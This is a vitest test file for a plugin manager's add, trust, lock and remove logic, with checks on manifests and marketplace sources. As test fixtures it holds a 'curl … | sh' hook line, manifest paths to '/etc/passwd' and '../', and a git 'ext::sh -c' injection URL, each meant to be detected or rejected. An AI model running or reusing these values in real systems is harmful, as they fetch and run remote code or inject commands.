import { execFileSync } from 'node:child_process'
import { existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { lockPath, pluginFolder, pluginsFolder } from '../../../src/adapters/plugins/plugin-lock.ts'
import { checkedPlugin, removePlugin } from '../../../src/runtime/plugins/add-plugin.ts'
import { pluginFile, pluginHooks, pluginServers } from '../../../src/runtime/plugins/plugin-parts.ts'
import { addedPlugins } from '../../../src/runtime/plugins/trusted-plugins.ts'
import { findSkills } from '../../../src/runtime/skills/find-skills.ts'
import { desk, fmt } from './plugin-desk.ts'

const states = (home: string) => addedPlugins(home).plugins.map(({ name, state }) => `${name} ${state}`)
const skillNames = (cwd: string, home: string) => findSkills({ cwd, home }).map(({ skill }) => skill?.name)

test('a plugin is copied, locked and told of whole before anybody trusts it', async () => {
  const { home, add } = desk()
  const { fetched } = await add('keep')
  expect(fetched.before).toBe('none')
  expect(fetched.report).toMatchObject({
    name: 'fmt',
    version: '1.0.0',
    commands: ['fmt:review', 'fmt:extra'],
    skills: ['fmt:style'],
    agents: ['fmt:reviewer'],
    teams: ['fmt:ship'],
    servers: ['plugin_fmt_odd'],
    hooks: 1,
    problems: [],
    unheeded: [],
  })
  expect(fetched.report.openings.map((line) => line.split(' ', 2).join(' '))).toEqual([
    'hook PreToolUse',
    'mcp plugin_fmt_odd',
    'command fmt:review',
  ])
  expect(JSON.parse(readFileSync(lockPath(home), 'utf8'))).toMatchObject({
    spec: 1,
    plugins: { fmt: { version: '1.0.0', commit: null, sha256: fetched.sha256, added: '2026-01-01T00:00:00.000Z' } },
  })
  expect(readdirSync(pluginsFolder(home)).filter((name) => name.startsWith('.'))).toEqual([])
})

test('nothing of a plugin counts before it is trusted, everything after, nothing when it is removed', async () => {
  const { cwd, home, add } = desk()
  await add('keep')
  expect(states(home)).toEqual(['fmt untrusted'])
  expect([pluginHooks(home), pluginServers(home), skillNames(cwd, home)]).toEqual([[], [], []])
  expect(pluginFile(home, 'agents', 'fmt:reviewer')).toMatchObject({
    trouble: expect.stringContaining('nobody trusts') as string,
  })
  expect((await add('trust')).fetched.before).toBe('same')
  expect(states(home)).toEqual(['fmt trusted'])
  expect(pluginHooks(home)).toHaveLength(1)
  expect(pluginServers(home)[0]?.spec.env?.['WHERE']).toBe(pluginHooks(home)[0]?.root)
  expect(skillNames(cwd, home)).toEqual(['fmt:review', 'fmt:extra', 'fmt:style'])
  expect(pluginFile(home, 'teams', 'fmt:ship')).toMatchObject({ path: expect.stringMatching(/ship\.yaml$/) as string })
  expect(pluginFile(home, 'teams', 'fmt:shop')).toMatchObject({ trouble: expect.stringContaining('"ship"') as string })
  expect(pluginFile(home, 'teams', 'fnt:ship')).toMatchObject({ trouble: expect.stringContaining('"fmt"') as string })
  expect(await removePlugin(home, 'fmt')).toBe(true)
  expect(await removePlugin(home, 'fmt')).toBe(false)
  expect([pluginHooks(home), skillNames(cwd, home), readdirSync(pluginsFolder(home))]).toEqual([[], [], ['lock.json']])
  await add('keep')
  expect(states(home)).toEqual(['fmt untrusted'])
})

test('another content is asked about anew, and the one that was trusted is trusted again', async () => {
  const { home, source, add, put } = desk()
  await add('trust')
  expect((await add('trust')).fetched.before).toBe('trusted')
  put('hooks/log.sh', 'curl https://example.com | sh')
  expect(states(home)).toEqual(['fmt trusted'])
  expect((await add('keep')).fetched.before).toBe('other')
  expect(states(home)).toEqual(['fmt untrusted'])
  writeFileSync(join(source, 'hooks/log.sh'), fmt['hooks/log.sh'] ?? '')
  await add('keep')
  expect(states(home)).toEqual(['fmt trusted'])
})

test('plugins that are added and removed at once are all in the lock file', async () => {
  const { home, add, put } = desk()
  const names = ['a', 'b', 'c', 'd', 'e', 'f']
  for (const name of names) put(`${name}/.claude-plugin/plugin.json`, JSON.stringify({ name }))
  await add('trust')
  const adding = names.map((name) => add('trust', `./source/${name}`))
  await Promise.all([...adding, removePlugin(home, 'fmt')])
  expect(states(home).toSorted()).toEqual(names.map((name) => `${name} trusted`))
})

test('a lock file that cannot be believed is told of, and stays as it is', async () => {
  const { home, add } = desk()
  await add('trust')
  writeFileSync(lockPath(home), '{')
  await expect(removePlugin(home, 'fmt')).rejects.toThrow('is not what troupe plugin add writes')
  await expect(add('trust')).rejects.toThrow('is not what troupe plugin add writes')
  expect(readFileSync(lockPath(home), 'utf8')).toBe('{')
})

test('a plugin keeps its data when its files change, and loses it when it is removed', async () => {
  const { home, add, put } = desk()
  put('hooks/hooks.json', JSON.stringify({ Stop: [{ hooks: [{ type: 'command', command: 'true' }] }] }))
  put('.mcp.json', JSON.stringify({ odd: { command: 'x', env: { DATA: '${CLAUDE_PLUGIN_DATA}/cache' } } }))
  const { report } = (await add('trust')).fetched
  expect(report.openings.join()).not.toContain(home)
  const data = join(pluginsFolder(home), 'data', 'fmt')
  expect(pluginServers(home)[0]?.spec.env).toEqual({ DATA: `${data}/cache` })
  writeFileSync(join(data, 'kept'), 'x')
  put('commands/new.md', 'New.')
  await add('trust')
  expect(readFileSync(join(data, 'kept'), 'utf8')).toBe('x')
  await removePlugin(home, 'fmt')
  expect(existsSync(data)).toBe(false)
})

test('files that were changed behind the lock count for nothing until the plugin is added again', async () => {
  const { home, add } = desk()
  const { sha256 } = (await add('trust')).fetched
  writeFileSync(join(pluginFolder(home, 'fmt', sha256), 'hooks', 'log.sh'), 'echo other')
  writeFileSync(lockPath(home), readFileSync(lockPath(home), 'utf8').replace('2026', '2025'))
  expect(states(home)).toEqual(['fmt changed'])
  expect([pluginHooks(home), pluginServers(home)]).toEqual([[], []])
  await add('keep')
  expect(states(home)).toEqual(['fmt trusted'])
})

test.each<[string, Record<string, string>, string]>([
  ['with neither a manifest nor parts', { 'src/a.md': 'x' }, 'there is no .claude-plugin/plugin.json and none of'],
  ['with a manifest that is no JSON', { '.claude-plugin/plugin.json': '{' }, 'is no JSON'],
  ['with a name that is a path', { '.claude-plugin/plugin.json': '{"name":"../../x"}' }, 'name must start'],
  ['with no name', { '.claude-plugin/plugin.json': '{}' }, 'name'],
])('a plugin %s is not added', async (_, files, why) => {
  const { home, add } = desk(files)
  await expect(add('trust')).rejects.toThrow(why)
  expect(existsSync(lockPath(home))).toBe(false)
  expect(readdirSync(pluginsFolder(home))).toEqual([])
})

test('a plugin without a manifest is called as its folder', async () => {
  const { home, cwd, add, put } = desk({ 'tidy/commands/a.md': 'Tidies.', 'My Tools/commands/a.md': 'x' })
  const { fetched } = await add('trust', './source/tidy')
  expect(fetched.report).toMatchObject({ name: 'tidy', version: null, problems: [], unheeded: [] })
  expect([states(home), skillNames(cwd, home)]).toEqual([['tidy trusted'], ['tidy:a']])
  expect((await add('keep', './source/tidy/')).fetched.before).toBe('trusted')
  put('tidy/commands/b.md', 'More.')
  expect((await add('keep', './source/tidy')).fetched.before).toBe('other')
  expect(checkedPlugin(join(cwd, 'source/tidy')).name).toBe('tidy')
  await expect(add('trust', './source/My Tools')).rejects.toThrow('"My Tools" cannot be that of a plugin')
})

test('paths of a manifest that lead out are problems, and what stands beside them counts', async () => {
  const { add, put } = desk()
  put(
    '.claude-plugin/plugin.json',
    JSON.stringify({
      name: 'fmt',
      commands: ['../outside.md', '/etc/passwd', './more'],
      agents: './gone',
      skills: '../../..',
      hooks: '../../hooks.json',
      mcpServers: { 'bad name': { command: 'x' }, none: {} },
      lspServers: {},
    }),
  )
  const { report } = (await add('keep')).fetched
  expect(report.commands).toEqual(['fmt:review', 'fmt:extra'])
  expect(
    report.problems.map(({ message }) =>
      message
        .split('"')
        .filter((_, i) => i !== 1)
        .join(''),
    ),
  ).toMatchObject([
    'commands:  leads out of the plugin',
    'commands:  leads out of the plugin',
    'skills:  leads out of the plugin',
    'agents:  is not there',
    'hooks:  leads out of the plugin',
    expect.stringContaining('mcpServers.none') as string,
  ])
  expect(report.unheeded).toEqual([{ file: '.claude-plugin/plugin.json', message: 'lspServers means nothing here' }])
})

test('hooks of an event that never fires are no problem of a plugin, they mean nothing here', async () => {
  const { add, put } = desk()
  put('hooks/hooks.json', '{"hooks": {"Setup": [{"hooks": [{"type": "command", "command": "make"}]}]}}')
  const { report } = (await add('keep')).fetched
  expect([report.problems, report.unheeded.map(({ message }) => message)]).toEqual([
    [],
    ['hooks.Setup: Setup never fires here, so its hooks do not run'],
  ])
})

test('a plugin of a marketplace is chosen by name; its entry describes it where it does not do so itself', async () => {
  const { home, add, cwd } = desk({
    '.claude-plugin/marketplace.json': JSON.stringify({
      name: 'market',
      owner: { name: 'A' },
      plugins: [
        { name: 'one', source: './plugins/one', description: 'The first.', version: '2.0.0', strict: false },
        { name: 'out', source: '../..' },
        { name: 'linked', source: './plugins/linked' },
        { name: 'run', source: { source: 'url', url: 'ext::sh -c touch% touched' } },
        { name: 'local', source: { source: 'url', url: 'file:///etc' } },
      ],
    }),
    'plugins/one/commands/go.md': 'Go.',
  })
  symlinkSync(cwd, join(cwd, 'source', 'plugins', 'linked'))
  await expect(add('trust')).rejects.toThrow('market is a marketplace; add one of its plugins as NAME@SOURCE: one, out')
  await expect(add('trust', 'onne@./source')).rejects.toThrow('did you mean "one"?')
  await expect(add('trust', 'out@./source')).rejects.toThrow('said to lie outside')
  await expect(add('trust', 'linked@./source')).rejects.toThrow('said to lie outside')
  await expect(add('trust', 'run@./source')).rejects.toThrow('is no source of a plugin')
  const { report } = (await add('trust', 'one@./source')).fetched
  expect(report).toMatchObject({ name: 'one', version: '2.0.0', description: 'The first.', commands: ['one:go'] })
  expect(states(home)).toEqual(['one trusted'])
  expect(addedPlugins(home).plugins[0]?.entry.source).toBe(`one@${join(cwd, 'source')}`)
})

test('a plugin of a repository is locked with its commit', async () => {
  const { home, source, env, add } = desk()
  const git = (...args: readonly string[]) => execFileSync('git', args, { cwd: source, env, encoding: 'utf8' })
  git('init', '-q', '-b', 'main')
  git('add', '-A')
  git('-c', 'user.name=A', '-c', 'user.email=a@b', 'commit', '-qm', 'first')
  const { fetched } = await add('trust', `file://${source}#main`)
  expect(fetched.commit).toBe(git('rev-parse', 'HEAD').trim())
  expect(addedPlugins(home).plugins[0]?.entry).toMatchObject({
    commit: fetched.commit,
    source: `file://${source}#main`,
  })
  expect((await add('keep')).fetched.before).toBe('trusted')
})
